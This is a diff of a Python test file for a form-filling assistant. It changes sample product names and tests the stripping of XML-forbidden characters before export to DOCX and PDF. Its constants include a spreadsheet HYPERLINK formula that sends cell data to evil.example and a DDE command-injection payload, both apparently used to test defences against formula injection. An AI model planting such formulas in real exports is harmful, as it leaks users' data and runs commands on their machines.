@@ -33,7 +33,7 @@ from tests.support.registration_script import Step, fill, load_form, start_regis
 
 FORM = load_form()
 VAN_THANG = "13864"
-EXFILTRATE = '=HYPERLINK("http://evil.example/?d="&B2&C2,"Bấm để xem ảnh")'
+EXFILTRATE = '=HYPERLINK("http://evil.example/?d="&B2&C2,"Gạo tám")'
 DDE = "=cmd|' /C calc'!A0"
 FORMULAS = (EXFILTRATE, DDE, "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1")
 XML_FORBIDDEN = "\x00\x01\x08\x0b\x0c\x0e\x1f\ufffe\uffff"
@@ -109,17 +109,17 @@ async def test_characters_xml_forbids_are_dropped_where_text_enters(
         assistant,
         {
             "unit_name": Step(send="HTX\uffff Nông nghiệp\ufffe Vạn Thắng"),
-            "product_name": Step(send="Mật ong\x0b rừng\x1f U Minh\uffff"),
+            "product_name": Step(send="Gạo\x0b tám\x1f U Minh\uffff"),
         },
     )
     answers = await assistant.services.applications.get_answers(app_id)
     assert answers["unit_name"].value == "HTX Nông nghiệp Vạn Thắng"
-    assert answers["product_name"].value == "Mật ong rừng U Minh"
+    assert answers["product_name"].value == "Gạo tám U Minh"
     docx_path, pdf_path = await export_application(
         assistant.services, FORM, app_id, out_dir=tmp_path
     )
-    assert "Tên sản phẩm: Mật ong rừng U Minh" in _docx_text(docx_path)
-    assert "Mật ong rừng U Minh" in " ".join(
+    assert "Gạo tám U Minh" in _docx_text(docx_path)
+    assert "Gạo tám U Minh" in " ".join(
         (p.extract_text() or "") for p in PdfReader(str(pdf_path)).pages
     )
 
